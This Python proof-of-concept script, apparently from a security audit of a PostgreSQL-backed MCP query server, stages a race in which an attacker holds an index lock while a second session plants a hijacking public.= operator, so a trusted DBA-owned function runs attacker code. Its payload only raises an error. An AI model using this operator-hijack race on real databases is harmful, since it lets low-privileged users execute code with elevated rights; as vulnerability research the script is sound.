"""Deterministic: a trusted (DBA-owned) SQL function whose body compares an enum unqualified
(`WHERE m = 'fine'`, not inlinable: it has a FROM and an aggregate) is parsed when it first
runs, in the executor. The attacker holds its own index (BEGIN; REINDEX INDEX) so the server's
statement, which also reads the attacker's table, waits in planning after the check; a second
attacker session plants public.=(mood, mood) and commits; the index is released; the body is
parsed and runs the planted operator. Needs custom_body.py's fixture (public.fine_count).
Usage: race_sqlbody.py [reader|postgres]"""
import asyncio
import json
import sys
import time

import asyncpg
import race_domain as rd
from common import DSN, as_role, tool
from custom_body import ADMIN, ATK
from mcpclient import connect


async def main(role: str) -> None:
    adm = await asyncpg.connect(DSN); await adm.execute(ADMIN)
    a = await asyncpg.connect(as_role("attacker")); await a.execute(rd.SETUP_ATK)
    b = await asyncpg.connect(as_role("attacker"))
    server_role = "postgres" if role == "postgres" else role
    sql = "SELECT public.fine_count() AS n, t.a FROM atk.t"
    async with connect(DSN if role == "postgres" else as_role(role)) as c:
        ok, body = await tool(c, "execute_query", sql=sql)
        print("baseline:", ok, json.dumps(body.get("rows", body))[:200])
        await a.execute("BEGIN; REINDEX INDEX atk.t_a")
        call = asyncio.create_task(tool(c, "execute_query", sql=sql.replace("AS n", "AS n_fresh")))
        t0 = time.monotonic(); waiting = None
        while time.monotonic() - t0 < 10 and not waiting:
            waiting = await adm.fetchrow(
                "SELECT a.pid, l.relation::regclass::text AS rel, l.mode FROM pg_stat_activity a JOIN pg_locks l ON l.pid = a.pid "
                "WHERE a.usename = $1 AND a.wait_event_type = 'Lock' AND NOT l.granted", server_role)
            await asyncio.sleep(0.01)
        print("server backend waiting:", dict(waiting) if waiting else None)
        await b.execute(ATK)  # public.=(mood, mood) -> atk.mood_eq, which raises PWNED
        print("planted public.=(mood, mood), committed")
        await a.execute("COMMIT")
        ok, body = await call
        print("call:", ok, json.dumps(body.get("error", body))[:300])
    await b.execute("DROP OPERATOR IF EXISTS public.= (public.mood, public.mood)")
    for x in (a, b, adm): await x.close()

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader"))
